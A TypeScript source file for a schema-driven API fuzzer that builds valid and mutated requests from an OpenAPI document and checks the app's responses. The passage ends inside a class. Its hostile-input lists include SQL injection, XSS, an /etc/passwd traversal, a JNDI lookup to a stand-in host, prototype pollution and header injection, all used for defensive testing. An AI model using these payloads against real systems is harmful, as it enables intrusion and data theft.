import { createHash } from 'node:crypto'
import { Ajv2020, type ValidateFunction } from 'ajv/dist/2020.js'
import addFormatsModule from 'ajv-formats'
import fc from 'fast-check'
import type { FastifyInstance, InjectOptions, LightMyRequestResponse } from 'fastify'
import type { JsonNode } from './openapi.js'

// ajv-formats is CommonJS: its module object is the plugin, and carries it again as `default`.
const addFormats = addFormatsModule.default

/**
 * The schema-driven fuzzer: for every operation of the OpenAPI document it generates requests from the
 * operation's parameter and request-body schemas, valid ones and mutated ones, sends them with
 * `app.inject`, and checks that no answer is a 5xx and that every answer matches the response the
 * document declares for its status (content type and JSON Schema). Generation is fast-check with a fixed
 * seed per operation, so a run is repeatable; no shrinking (the app's state moves between cases).
 */

/** Which credential a case is sent with: the fixture's three tokens, none, or a made-up one. */
export type TokenName = 'full' | 'public' | 'expert'
export type Credential = TokenName | 'none' | 'bogus'

/** What the fuzzer needs from a seeded organization. */
export interface FuzzFixture {
  orgId: number
  /** Another organization, for cross-tenant cases (its records must be 404, its id 403). */
  otherOrgId: number
  /** Bearer tokens: every scope; `read:public inquiries:create`; an expert person's dashboard token. */
  tokens: Record<TokenName, string>
  experts: string[]
  staff: string[]
  /** The expert the `expert` token's person is linked to: never deleted by a case. */
  protectedExpert: string
  /** Record ids of every kind (profile elements, posts, questions, answers, inquiries), both organizations. */
  ids: number[]
  /** People no token belongs to (the `people/{id}` cases may change or remove them). */
  peopleIds: number[]
  emails: string[]
  /** A client no token of the fixture belongs to, with a token of its own (revocation cases). */
  spare: { clientId: string; clientSecret: string; token: string }
  /** The Host (and Origin) the dashboard's session routes are sent with. */
  host: string
  /** A fresh signed-in session's cookie (`name=value`) for the `/auth/*` cases, when one can be made. */
  newSession(): Promise<string | undefined>
  /** Small valid files of each upload type. */
  files: Record<'png' | 'jpeg' | 'webp' | 'pdf', Buffer>
}

export interface FuzzOptions {
  /** Cases per operation. */
  cases: number
  seed: number
  /** Only operations whose `METHOD path` or operationId contains this text. */
  only?: string
  /** Called after each operation. */
  onOperation?(done: number, total: number, operation: string): void
}

/** A request that broke the rules, with what came back. */
export interface FuzzFailure {
  operation: string
  kind: string
  credential: Credential
  request: { method: string; url: string; headers: Record<string, string>; body?: string }
  status: number
  problem: string
  response: string
}

export interface FuzzReport {
  operations: number
  cases: number
  /** Cases inject refused to send (a header value Node will not put on the wire). */
  unsendable: number
  statuses: Record<string, number>
  /** Status counts per credential. */
  byCredential: Record<string, Record<string, number>>
  kinds: Record<string, number>
  failures: FuzzFailure[]
  ms: number
}

type Method = 'GET' | 'POST' | 'PUT' | 'PATCH' | 'DELETE'

/** The document's method keys the fuzzer sends. */
const METHODS = new Map<string, Method>([
  ['get', 'GET'],
  ['post', 'POST'],
  ['put', 'PUT'],
  ['patch', 'PATCH'],
  ['delete', 'DELETE'],
])

interface Operation {
  id: string
  method: Method
  path: string
  /** JSON pointer of the operation in the document. */
  pointer: string
  node: JsonNode
}

interface Case {
  kind: string
  credential: Credential
  params: Record<string, string>
  query: [string, string][]
  headers: Record<string, string>
  body?: { contentType?: string; payload: string | Buffer }
  /** Whether to send the `/auth` session cookie. */
  session: boolean
}

const escapePointer = (segment: string) => segment.replaceAll('~', '~0').replaceAll('/', '~1')

/** Every operation of the document, in document order, with deletions last (they remove what others use). */
export function fuzzOperations(document: JsonNode): Operation[] {
  const operations: Operation[] = []
  for (const [path, item] of Object.entries<JsonNode>(document.paths))
    for (const [method, node] of Object.entries<JsonNode>(item)) {
      const upper = METHODS.get(method)
      if (!upper) continue
      operations.push({
        id: node.operationId ?? `${method} ${path}`,
        method: upper,
        path,
        pointer: `#/paths/${escapePointer(path)}/${method}`,
        node,
      })
    }
  return [
    ...operations.filter((op) => op.method !== 'DELETE'),
    ...operations.filter((op) => op.method === 'DELETE'),
  ]
}

/** Follows `$ref`s; returns the node and the pointer it was found at. */
function follow(document: JsonNode, node: JsonNode, pointer: string): { node: JsonNode; pointer: string } {
  let current = node
  let at = pointer
  while (typeof current?.$ref === 'string') {
    const ref: string = current.$ref
    at = ref
    current = ref
      .replace(/^#\//, '')
      .split('/')
      .map((part) => part.replaceAll('~1', '/').replaceAll('~0', '~'))
      .reduce((parent: JsonNode, key) => parent?.[key], document)
  }
  return { node: current, pointer: at }
}

const resolve = (document: JsonNode, node: JsonNode): JsonNode => follow(document, node, '').node

const SCRIPTS = ['é', 'ß', 'Ж', '日本', 'ع', 'ह', '😀', '👩‍🔬', '𝒳', 'e\u0301', '\u00a0', 'ﬁ']
const TEXT_UNIT = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom(...'abcdefghijklmnopqrstuvwxyzABCXYZ0123456789 -_.,') },
  { weight: 2, arbitrary: fc.constantFrom(...SCRIPTS) },
  fc.constantFrom("'", '"', ';', '--', '%', '\\', '<', '>', '&', '`', '$', '{', '}'),
)

/** Strings a careless parser or query trips over. */
const HOSTILE_STRINGS = [
  '',
  ' ',
  '\t\n',
  '\u0000',
  'a\u0000b',
  'a\u0001\u001b[31m\u007fb',
  '\ud800',
  'x\udfffy',
  '\u202eevil\u202c\u200b',
  '\ufeff',
  'e\u0301'.repeat(200),
  '👩‍👩‍👧‍👦'.repeat(100),
  '１２３',
  "' OR '1'='1' --",
  '"; DROP TABLE experts; --',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '../../../../etc/passwd',
  '%00',
  '%2e%2e%2f',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the text a template injection would expand
  '${jndi:ldap://x.example/a}',
  '{{7*7}}',
  'null',
  'true',
  '-1',
  '0',
  '1e309',
  '0x10',
  'NaN',
  '9007199254740993',
  '-9223372036854775809',
  '2026-02-30T25:61:61Z',
  'javascript:alert(1)',
  'http://[::1]:0/',
  'mailto:a@b',
  'a@b',
  '__proto__',
  'constructor',
  '\r\nX-Injected: 1',
]

/** Values of any JSON type that break most schemas. */
const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...HOSTILE_STRINGS) },
  {
    weight: 2,
    arbitrary: fc.constantFrom(
      null,
      true,
      false,
      0,
      -1,
      1.5,
      -0.0001,
      2 ** 31,
      -(2 ** 53) - 2,
      2 ** 64,
      1e308,
      -1e308,
      [],
      {},
      [1, 'a', null],
      { a: { b: { c: [] } } },
      { $gt: '' },
    ),
  },
  fc.integer({ min: 4_000, max: 70_000 }).map((n) => 'x'.repeat(n)),
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.string({ unit: TEXT_UNIT, minLength: 1, maxLength: 20 }).map((s) => `${s}\u0000${s}`),
  fc.jsonValue({ maxDepth: 3 }),
)

/** Values that do not belong in a URL segment or query parameter of the schema. */
const HOSTILE_PARAMS = [
  '0',
  '-1',
  '01',
  '+1',
  '1.5',
  '1e3',
  '0x10',
  '9007199254740992',
  '99999999999999999999999999',
  'abc',
  'ABC-Upper',
  '\u0000',
  '..',
  '.',
  'Ö',
  '😀',
  'a'.repeat(300),
  ' ',
  '/',
  '%',
  'null',
  '__proto__',
  'constructor',
  "'",
  '[]',
  '{"a":1}',
]

const MALFORMED_JSON = [
  '{',
  '{"a":',
  '{"a":1,}',
  "{'a':1}",
  'nul',
  '\u0000',
  '{"a":1}{"b":2}',
  '',
  ' ',
  '\ufeff{}',
  '{"a":"\\ud800"}',
  '{"a":"\\u00"}',
  '{"__proto__":{"admin":true}}',
  '{"constructor":{"prototype":{"admin":true}}}',
  '[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[',
  `${'['.repeat(20_000)}${']'.repeat(20_000)}`,
  `{"a":${'1'.repeat(400)}}`,
]

const WRONG_CONTENT_TYPES = [
  'text/plain',
  'application/xml',
  'application/octet-stream',
  'multipart/form-data',
  'multipart/form-data; boundary=x',
  'application/json; charset=utf-16',
  'application/json; charset=latin1',
  'APPLICATION/JSON',
  'application/json, text/plain',
  'application/x-www-form-urlencoded',
  'image/png',
  'application/pdf',
  ';;;',
  'application/merge-patch+json',
]

const EMAIL_DOMAINS = ['example.org', 'uni.example', 'xn--bcher-kva.example']
const COUNTRIES = ['CA', 'US', 'FR', 'de', 'jp', 'Br']

/** A stable 32-bit seed for one operation of one run. */
function operationSeed(seed: number, id: string): number {
  return createHash('sha256').update(`${seed}:${id}`).digest().readInt32LE(0)
}

/** Builds valid and hostile values from the document's schemas. */
export class Generator {
  constructor(
    private readonly document: JsonNode,
    private readonly fixture: FuzzFixture,
  ) {}

  /** Pool values for fields whose name says what they hold. */
  private named(name: string | undefined, path: string): fc.Arbitrary<unknown> | undefined {
    const f = this.fixture
    switch (name) {
      case 'corporation':
        return fc.oneof(
          { weight: 12, arbitrary: fc.constant(f.orgId) },
          fc.constant(f.otherOrgId),
          fc.integer({ min: 3, max: Number.MAX_SAFE_INTEGER }),
        )
      case 'username':
      case 'expert':
      case 'answered_by': {
        const pool = (path.includes('/staff/') ? f.staff : f.experts).filter(
          // Deleting the expert the \`expert\` token's person is linked to would end that token's cases.
          (username) => !(path.startsWith('DELETE ') && username === f.protectedExpert),
        )
        const made = fc.stringMatching(/^[a-z0-9-]{1,64}$/)
        return pool.length ? fc.oneof({ weight: 8, arbitrary: fc.constantFrom(...pool) }, made) : made
      }
      case 'id':
      case 'answer_id':
        if (path.includes('/people/'))
          return fc.oneof(
            { weight: 4, arbitrary: fc.constantFrom(...f.peopleIds) },
            fc.integer({ min: 1_000_000, max: Number.MAX_SAFE_INTEGER }),
          )
        return fc.oneof(
          { weight: 6, arbitrary: fc.constantFrom(...f.ids) },
          fc.integer({ min: 1, max: Number.MAX_SAFE_INTEGER }),
        )
      case 'client_id':
        return fc.oneof(
          { weight: 4, arbitrary: fc.constant(f.spare.clientId) },
          fc.string({ minLength: 1, maxLength: 40 }),
        )
      case 'client_secret':
        return fc.oneof(
          { weight: 4, arbitrary: fc.constant(f.spare.clientSecret) },
          fc.string({ minLength: 1, maxLength: 60 }),
        )
      case 'token':
        return fc.oneof(fc.constant(f.spare.token), fc.string({ minLength: 1, maxLength: 60 }))
      case 'grant_type':
        return fc.oneof({ weight: 4, arbitrary: fc.constant('client_credentials') }, fc.string())
      case 'email':
        return fc.oneof(fc.constantFrom(...f.emails), this.email())
      default:
        return undefined
    }
  }

  private email(): fc.Arbitrary<string> {
    return fc
      .tuple(fc.stringMatching(/^[a-z][a-z0-9_+-]{0,12}$/), fc.constantFrom(...EMAIL_DOMAINS), fc.nat(99_999))
      .map(([local, domain, n]) => `${local}.${n}@${domain}`)
  }

  private string(schema: JsonNode): fc.Arbitrary<string> {
    const min: number = schema.minLength ?? 0
    const max: number = Math.max(min, schema.maxLength ?? 200)
    const pattern = schema.pattern ? safeRegExp(schema.pattern) : undefined
    const fits = (value: string) =>
      [...value].length >= min && [...value].length <= max && (!pattern || pattern.test(value))
    if (schema.format === 'email') return this.email()
    if (schema.format === 'iso3166-alpha2') return fc.constantFrom(...COUNTRIES)
    if (schema.format === 'date-time')
      return fc.integer({ min: 0, max: 4_102_444_800_000 }).map((ms) => new Date(ms).toISOString())
    if (schema.format === 'uri' || schema.format === 'uri-reference') {
      const fallback = 'https://example.org/a'
      return fc
        .webUrl({ validSchemes: ['https', 'http'], withQueryParameters: true, withFragments: true })
        .map((url) => (fits(url) ? url : fallback))
    }
    const generic = fc
      .oneof(
        {
          weight: 5,
          arbitrary: fc.string({ unit: TEXT_UNIT, minLength: min, maxLength: Math.min(max, min + 30) }),
        },
        fc.constant('x'.repeat(Math.min(max, 5000))),
      )
      .map((value) => (fits(value) ? value : value.trim()))
    if (!schema.pattern || !pattern) return generic
    const matching = tryStringMatching(schema.pattern)
    if (!matching) return generic
    return fc.oneof(
      { weight: 3, arbitrary: matching.map((value) => [...value].slice(0, max).join('')) },
      generic,
    )
  }

  /** A value the schema (most likely) accepts; `name` is the field's name, `path` the operation's `METHOD path`. */
  valid(input: JsonNode, name: string | undefined, path: string, depth = 0): fc.Arbitrary<unknown> {
    const named = this.named(name, path)
    if (named) return named
    const schema = resolve(this.document, input)
    if (!schema || typeof schema !== 'object' || Object.keys(schema).length === 0)
      return fc.jsonValue({ maxDepth: 2 })
    if ('const' in schema) return fc.constant(schema.const)
    if (Array.isArray(schema.enum)) return fc.constantFrom(...schema.enum)
    const branches: JsonNode[] | undefined = schema.anyOf ?? schema.oneOf
    if (branches) return fc.oneof(...branches.map((branch) => this.valid(branch, name, path, depth + 1)))
    if (schema.allOf) {
      const { allOf, ...rest } = schema
      const merged = Object.assign({}, rest, ...allOf.map((part: JsonNode) => resolve(this.document, part)))
      return this.valid(merged, name, path, depth + 1)
    }
    if (Array.isArray(schema.type))
      return fc.oneof(
        ...schema.type.map((type: string) => this.valid({ ...schema, type }, name, path, depth + 1)),
      )
    switch (schema.type) {
      case 'string':
        return this.string(schema)
      case 'integer': {
        const min = schema.minimum ?? (schema.exclusiveMinimum ?? -1_000_001) + 1
        const max = Math.min(schema.maximum ?? Number.MAX_SAFE_INTEGER, Number.MAX_SAFE_INTEGER)
        return fc.oneof(
          { weight: 3, arbitrary: fc.integer({ min, max: Math.min(max, min + 1000) }) },
          fc.constantFrom(min, max),
          fc.integer({ min, max }),
        )
      }
      case 'number':
        return fc.double({
          min: schema.minimum ?? -1e6,
          max: schema.maximum ?? 1e6,
          noNaN: true,
          noDefaultInfinity: true,
        })
      case 'boolean':
        return fc.boolean()
      case 'null':
        return fc.constant(null)
      case 'array': {
        const minLength = schema.minItems ?? 0
        return fc.array(this.valid(schema.items ?? {}, undefined, path, depth + 1), {
          minLength,
          maxLength: Math.min(schema.maxItems ?? minLength + 4, minLength + 4),
        })
      }
      default:
        if (schema.type === 'object' || schema.properties) return this.object(schema, path, depth)
        return fc.jsonValue({ maxDepth: 2 })
    }
  }

  private object(schema: JsonNode, path: string, depth: number): fc.Arbitrary<Record<string, unknown>> {
    const required: string[] = schema.required ?? []
    const fields: Record<string, fc.Arbitrary<unknown>> = {}
    for (const [key, field] of Object.entries<JsonNode>(schema.properties ?? {})) {
      if (field?.not !== undefined) continue
      if (depth > 4 && !required.includes(key)) continue
      fields[key] = this.valid(field, key, path, depth + 1)
    }
    const record = fc.record(fields, { requiredKeys: required.filter((key) => key in fields) })
    const rule: { country: string; state: string } | undefined = schema['x-subdivision']
    if (!rule) return record
    return fc
      .tuple(
        record,
        fc.constantFrom({}, { [rule.country]: 'CA', [rule.state]: 'ON' }, { [rule.country]: 'us' }),
      )
      .map(([body, place]) => ({ ...body, ...place }))
  }

  /** A hostile value for a field: another type, a boundary, a hostile string. */
  hostile(input: JsonNode): fc.Arbitrary<unknown> {
    const schema = resolve(this.document, input) ?? {}
    const bounds: unknown[] = []
    if (typeof schema.maxLength === 'number') bounds.push('y'.repeat(schema.maxLength + 1))
    if (typeof schema.minimum === 'number') bounds.push(schema.minimum - 1)
    if (typeof schema.maximum === 'number') bounds.push(schema.maximum + 1)
    return bounds.length
      ? fc.oneof({ weight: 4, arbitrary: hostileValue }, fc.constantFrom(...bounds))
      : hostileValue
  }

  /** A JSON body as a parsed object: valid or with one mutation; the mutation's name with it. */
  body(
    input: JsonNode,
    path: string,
  ): { valid: fc.Arbitrary<unknown>; mutated: fc.Arbitrary<[string, unknown]> } {
    const schema = resolve(this.document, input) ?? {}
    const valid = this.valid(schema, undefined, path)
    const properties = Object.keys(schema.properties ?? {})
    const required: string[] = schema.required ?? []
    const mutations: fc.Arbitrary<[string, unknown]>[] = [
      fc
        .constantFrom([], 'text', 42, null, true, [{}])
        .map((body): [string, unknown] => ['body not an object', body]),
      fc.constant<[string, unknown]>(['empty object', {}]),
      fc
        .tuple(
          valid,
          fc.constantFrom(
            '__proto__',
            'constructor',
            'prototype',
            'extra_field',
            'is_published',
            'id',
            'org_id',
            '',
          ),
          fc.jsonValue({ maxDepth: 2 }),
        )
        .map(([body, key, value]): [string, unknown] => ['extra property', withOwn(body, key, value)]),
    ]
    if (properties.length)
      mutations.push(
        fc
          .tuple(valid, fc.constantFrom(...properties))
          .chain(([body, key]) =>
            this.hostile(schema.properties[key]).map((value): [string, unknown] => [
              `hostile field ${key}`,
              withOwn(body, key, value),
            ]),
          ),
        fc
          .tuple(valid, fc.constantFrom(...properties))
          .chain(([body, key]) =>
            this.hostile(schema.properties[key]).map((value): [string, unknown] => [
              `hostile field ${key}`,
              withOwn(body, key, value),
            ]),
          ),
      )
    if (required.length)
      mutations.push(
        fc.tuple(valid, fc.constantFrom(...required)).map(([body, key]): [string, unknown] => {
          const copy: Record<string, unknown> = typeof body === 'object' && body !== null ? { ...body } : {}
          delete copy[key]
          return [`missing field ${key}`, copy]
        }),
      )
    return { valid, mutated: fc.oneof(...mutations) }
  }
}

/** Sets an own enumerable property, `__proto__` included (so that JSON.stringify writes it). */
function withOwn(body: unknown, key: string, value: unknown): unknown {
  const copy = body && typeof body === 'object' && !Array.isArray(body) ? { ...body } : {}
  Object.defineProperty(copy, key, { value, enumerable: true, writable: true, configurable: true })
  return copy
}

function safeRegExp(pattern: string): RegExp | undefined {
  try {
    return new RegExp(pattern, 'u')
  } catch {
    return undefined
  }
}

const matchingCache = new Map<string, fc.Arbitrary<string> | undefined>()

/**
 * fast-check's generator for a pattern, for the short structural patterns (usernames, phone numbers,
 * codes); the long "well-formed text" class, which it cannot expand in useful time, gets none.
 */
function tryStringMatching(pattern: string): fc.Arbitrary<string> | undefined {
  if (matchingCache.has(pattern)) return matchingCache.get(pattern)
  let arbitrary: fc.Arbitrary<string> | undefined
  if (pattern.length <= 80 && !pattern.includes('\\u')) {
    try {
      arbitrary = fc.stringMatching(new RegExp(pattern, 'u'))
    } catch {
      arbitrary = undefined
    }
  }
  matchingCache.set(pattern, arbitrary)
  return arbitrary
}

/** A form body from an object: scalars as strings, arrays as repeated keys, objects as JSON text. */
function formEncode(body: unknown, repeat?: string): string {
  const form = new URLSearchParams()
  if (body && typeof body === 'object' && !Array.isArray(body))
    for (const [key, value] of Object.entries(body)) {
      for (const item of Array.isArray(value) ? value : [value])
        form.append(key, item !== null && typeof item === 'object' ? JSON.stringify(item) : String(item))
      if (key === repeat) form.append(key, 'again')
    }
  return form.toString()
}

function multipart(
  boundary: string,
  parts: { name: string; filename?: string; type?: string; content: Buffer | string }[],
  close = true,
): Buffer {
  const chunks: Buffer[] = []
  for (const part of parts) {
    const disposition = `form-data; name="${part.name}"${part.filename === undefined ? '' : `; filename="${part.filename}"`}`
    chunks.push(
      Buffer.from(
        `--${boundary}\r\nContent-Disposition: ${disposition}\r\n${part.type ? `Content-Type: ${part.type}\r\n` : ''}\r\n`,
      ),
    )
    chunks.push(Buffer.isBuffer(part.content) ? part.content : Buffer.from(part.content))
    chunks.push(Buffer.from('\r\n'))
  }
  if (close) chunks.push(Buffer.from(`--${boundary}--\r\n`))
  return Buffer.concat(chunks)
}

const FILE_TYPES: Record<string, keyof FuzzFixture['files']> = {
  'image/png': 'png',
  'image/jpeg': 'jpeg',
  'image/webp': 'webp',
  'application/pdf': 'pdf',
}

function fileKey(type: string): keyof FuzzFixture['files'] {
  const key = FILE_TYPES[type]
  if (!key) throw new Error(`no fixture file of type ${type}`)
  return key
}

/** Every case of one operation, as an arbitrary. */
export function caseArbitrary(
  generator: Generator,
  document: JsonNode,
  operation: Operation,
  fixture: FuzzFixture,
) {
  const node = operation.node
  const where = `${operation.method} ${operation.path}`
  const parameters: JsonNode[] = (node.parameters ?? []).map((parameter: JsonNode) =>
    resolve(document, parameter),
  )
  const pathParams = parameters.filter((p) => p.in === 'path')
  const queryParams = parameters.filter((p) => p.in === 'query')
  const headerParams = parameters.filter((p) => p.in === 'header')
  const openRoute = Array.isArray(node.security) && node.security.length === 0
  const sessionRoute = operation.path.startsWith('/auth/')

  const credential: fc.Arbitrary<Credential> = openRoute
    ? fc.oneof(
        { weight: 6, arbitrary: fc.constant<Credential>('none') },
        fc.constantFrom<Credential>('full', 'bogus'),
      )
    : fc.oneof(
        { weight: 6, arbitrary: fc.constant<Credential>('full') },
        { weight: 2, arbitrary: fc.constant<Credential>('public') },
        { weight: 2, arbitrary: fc.constant<Credential>('expert') },
        fc.constantFrom<Credential>('none', 'bogus'),
      )

  const asText = (value: unknown) =>
    value !== null && typeof value === 'object' ? JSON.stringify(value) : String(value)

  const validParams: fc.Arbitrary<Record<string, string>> = fc.record(
    Object.fromEntries(
      pathParams.map((p): [string, fc.Arbitrary<string>] => [
        p.name,
        generator.valid(p.schema, p.name, where).map(asText),
      ]),
    ),
  )
  const validQuery: fc.Arbitrary<[string, string][]> = fc
    .tuple(
      ...queryParams.map((p) => {
        const value = generator.valid(p.schema, p.name, where)
        return p.required ? value : fc.option(value, { nil: undefined, freq: 2 })
      }),
    )
    .map((values) =>
      values.flatMap((value, i): [string, string][] => {
        const name: string = queryParams[i].name
        if (value === undefined) return []
        return Array.isArray(value) ? value.map((item) => [name, asText(item)]) : [[name, asText(value)]]
      }),
    )
  const validHeaders: fc.Arbitrary<Record<string, string>> = fc
    .tuple(
      ...headerParams.map((p) => {
        const values =
          p.name === 'if-match'
            ? fc.constantFrom('*', '"abc"', 'W/"1-2"', '"0"')
            : p.name === 'idempotency-key'
              ? fc.stringMatching(/^[A-Za-z0-9-]{8,40}$/)
              : generator.valid(p.schema, p.name, where).map(asText)
        return fc.option(values, { nil: undefined, freq: 2 }).map((value) => [p.name, value] as const)
      }),
    )
    .map((pairs) =>
      Object.fromEntries(pairs.filter((pair): pair is readonly [string, string] => pair[1] !== undefined)),
    )

  // The request body: what the document lists, valid and mutated.
  const content: Record<string, JsonNode> = node.requestBody?.content ?? {}
  const types = Object.keys(content)
  type Body = { kind: string; body?: Case['body'] }
  const bodies: { weight: number; arbitrary: fc.Arbitrary<Body> }[] = []
  const jsonType = types.find((type) => type === 'application/json')
  if (jsonType) {
    const { valid, mutated } = generator.body(content[jsonType].schema, where)
    const json = (payload: unknown, contentType = 'application/json') => ({
      contentType,
      payload: JSON.stringify(payload) ?? 'null',
    })
    bodies.push(
      { weight: 5, arbitrary: valid.map((value): Body => ({ kind: 'valid', body: json(value) })) },
      { weight: 5, arbitrary: mutated.map(([kind, value]): Body => ({ kind, body: json(value) })) },
      {
        weight: 1,
        arbitrary: fc.constantFrom(...MALFORMED_JSON).map(
          (payload): Body => ({
            kind: 'malformed JSON',
            body: { contentType: 'application/json', payload },
          }),
        ),
      },
      {
        weight: 1,
        arbitrary: fc.tuple(valid, fc.constantFrom(...WRONG_CONTENT_TYPES, undefined)).map(
          ([value, contentType]): Body => ({
            kind: `content type ${contentType ?? '(none)'}`,
            body: { contentType, payload: JSON.stringify(value) ?? '' },
          }),
        ),
      },
      {
        weight: 1,
        arbitrary: fc.constant<Body>({
          kind: 'body over the limit',
          body: {
            contentType: 'application/json',
            payload: JSON.stringify({ a: 'x'.repeat(1024 * 1024 + 16) }),
          },
        }),
      },
    )
    if (types.includes('application/x-www-form-urlencoded'))
      bodies.push(
        {
          weight: 2,
          arbitrary: valid.map(
            (value): Body => ({
              kind: 'valid form',
              body: { contentType: 'application/x-www-form-urlencoded', payload: formEncode(value) },
            }),
          ),
        },
        {
          weight: 2,
          arbitrary: fc.tuple(mutated, fc.boolean()).map(([[kind, value], repeat]): Body => {
            const key = value && typeof value === 'object' ? Object.keys(value)[0] : undefined
            return {
              kind: `form: ${repeat && key ? 'repeated key' : kind}`,
              body: {
                contentType: 'application/x-www-form-urlencoded',
                payload: formEncode(value, repeat ? key : undefined),
              },
            }
          }),
        },
        {
          weight: 1,
          arbitrary: fc.constantFrom('a=%', '%%%=%%%', '=', '&&&', 'a[b]=1&a[c]=2', 'a=\u0000', 'a=%ZZ').map(
            (payload): Body => ({
              kind: 'malformed form',
              body: { contentType: 'application/x-www-form-urlencoded', payload },
            }),
          ),
        },
      )
  }
  const fileTypes = types.filter((type) => type in FILE_TYPES)
  const multipartType = types.find((type) => type === 'multipart/form-data')
  const fileContent = fc.oneof(
    { weight: 3, arbitrary: fc.constantFrom(...Object.values(FILE_TYPES)).map((key) => fixture.files[key]) },
    fc.uint8Array({ maxLength: 2048 }).map((bytes) => Buffer.from(bytes)),
    fc.constantFrom(...Object.values(FILE_TYPES)).map((key) => fixture.files[key].subarray(0, 40)),
    fc.constant(Buffer.alloc(0)),
  )
  if (fileTypes.length)
    bodies.push(
      {
        weight: 4,
        arbitrary: fc.constantFrom(...fileTypes).map(
          (type): Body => ({
            kind: 'valid file',
            body: {
              contentType: type,
              payload: fixture.files[fileKey(type)],
            },
          }),
        ),
      },
      {
        weight: 3,
        arbitrary: fc
          .tuple(
            fileContent,
            fc.constantFrom(...fileTypes, 'text/plain', 'image/gif', 'image/svg+xml', undefined),
          )
          .map(
            ([payload, contentType]): Body => ({
              kind: `file as ${contentType ?? '(none)'}`,
              body: { contentType, payload },
            }),
          ),
      },
    )
  if (multipartType) {
    const schema = resolve(document, content[multipartType].schema) ?? {}
    const fields = Object.entries<JsonNode>(schema.properties ?? {})
    const fileField = fields.find(([, field]) => resolve(document, field)?.format === 'binary')?.[0] ?? 'file'
    bodies.push(
      {
        weight: 4,
        arbitrary: fc.constantFrom(...Object.keys(FILE_TYPES)).map((type): Body => {
          const key = fileKey(type)
          return {
            kind: 'valid multipart',
            body: {
              contentType: 'multipart/form-data; boundary=fuzzb',
              payload: multipart('fuzzb', [
                { name: fileField, filename: `a.${key}`, type, content: fixture.files[key] },
              ]),
            },
          }
        }),
      },
      {
        weight: 4,
        arbitrary: fc
          .tuple(
            fileContent,
            fc.constantFrom(fileField, 'other', ''),
            fc.constantFrom('a.png', '', '../../x.pdf', 'a\u0000.jpg', '😀.webp', 'x'.repeat(300)),
            fc.constantFrom('image/png', 'application/pdf', 'text/html', 'image/svg+xml', undefined),
            fc.constantFrom('whole', 'unclosed', 'two files', 'no boundary', 'text only'),
          )
          .map(([bytes, name, filename, type, shape]): Body => {
            const part = { name, filename, type, content: bytes }
            if (shape === 'no boundary')
              return {
                kind: 'multipart without boundary',
                body: { contentType: 'multipart/form-data', payload: multipart('fuzzb', [part]) },
              }
            const parts =
              shape === 'two files'
                ? [part, part]
                : shape === 'text only'
                  ? [{ name: 'note', content: 'hello' }]
                  : [part]
            return {
              kind: `multipart ${shape}`,
              body: {
                contentType: 'multipart/form-data; boundary=fuzzb',
                payload: multipart('fuzzb', parts, shape !== 'unclosed'),
              },
            }
          }),
      },
    )
  }
  if (!bodies.length)
    bodies.push(
      { weight: 8, arbitrary: fc.constant<Body>({ kind: 'valid' }) },
      {
        weight: 1,
        arbitrary: fc
          .tuple(
            fc.constantFrom('application/json', 'text/plain', undefined),
            fc.constantFrom('{}', '{', 'x'),
          )
          .map(
            ([contentType, payload]): Body => ({
              kind: 'unexpected body',
              body: { contentType, payload },
            }),
          ),
      },
    )
  const body = fc.oneof(...bodies)

  // Parameter mutations: one path, query or header parameter made hostile, or an unknown one added.
  const hostileParam = fc.constantFrom(...HOSTILE_PARAMS)
  const mutatedParams: fc.Arbitrary<{ kind: string; apply(c: Case): void }>[] = [
    fc
      .tuple(fc.stringMatching(/^[a-z_]{1,12}$/), fc.constantFrom(...HOSTILE_STRINGS))
      .map(([name, value]) => ({
        kind: 'unknown query parameter',
        apply: (c: Case) => c.query.push([name, value]),
      })),
  ]
  if (pathParams.length)
    mutatedParams.push(
      fc
        .tuple(fc.constantFrom(...pathParams.map((p): string => p.name)), hostileParam)
        .map(([name, value]) => ({
          kind: `hostile path ${name}`,
          apply: (c: Case) => {
            c.params[name] = value
          },
        })),
    )
  if (queryParams.length)
    mutatedParams.push(
      fc
        .tuple(
          fc.constantFrom(...queryParams),
          fc.oneof(hostileParam, fc.constantFrom(...HOSTILE_STRINGS)),
          fc.constantFrom('replace', 'repeat', 'bracket'),
        )
        .map(([p, value, how]) => ({
          kind: `hostile query ${p.name} (${how})`,
          apply: (c: Case) => {
            if (how === 'replace') c.query = c.query.filter(([name]) => name !== p.name)
            c.query.push([how === 'bracket' ? `${p.name}[]` : p.name, value])
            if (how === 'repeat') c.query.push([p.name, value])
          },
        })),
    )
  const required = queryParams.filter((p) => p.required)
  if (required.length)
    mutatedParams.push(
      fc.constantFrom(...required).map((p) => ({
        kind: `missing query ${p.name}`,
        apply: (c: Case) => {
          c.query = c.query.filter(([name]) => name !== p.name)
        },
      })),
    )
  if (headerParams.length)
    mutatedParams.push(
      fc
        .tuple(
          fc.constantFrom(...headerParams.map((p): string => p.name)),
          fc.constantFrom('', ' ', 'x'.repeat(9000), 'W/', '"', '*, "a"', 'Ö', '😀', '\u00ff'),
        )
        .map(([name, value]) => ({
          kind: `hostile header ${name}`,
          apply: (c: Case) => {
            c.headers[name] = value
          },
        })),
    )

  const base = fc
    .record({
      credential,
      params: validParams,
      query: validQuery,
      headers: validHeaders,
      body,
      session: fc.boolean(),
    })
    .map(
      ({ credential, params, query, headers, body, session }): Case => ({
        kind: body.kind,
        credential,
        params,
        query,
        headers,
        body: body.body,
        session: sessionRoute && session,
      }),
    )
  return fc.oneof(
    { weight: 4, arbitrary: base },
    {
      weight: 1,
      arbitrary: fc.tuple(base, fc.oneof(...mutatedParams)).map(([c, mutation]): Case => {
        const copy = { ...c, params: { ...c.params }, query: [...c.query], headers: { ...c.headers } }
        mutation.apply(copy)
        copy.kind = mutation.kind
        return copy
      }),
    },
  )
}

/** Checks one answer against the operation's declared responses; returns the problem, if any. */
class ResponseChecker {
  private readonly ajv: Ajv2020
  private readonly validators = new Map<string, ValidateFunction>()

  constructor(private readonly document: JsonNode) {
    this.ajv = new Ajv2020({ strict: false, validateSchema: false, allErrors: true })
    addFormats(this.ajv)
    this.ajv.addFormat('iso3166-alpha2', /^[A-Za-z]{2}$/)
    this.ajv.addFormat('binary', true)
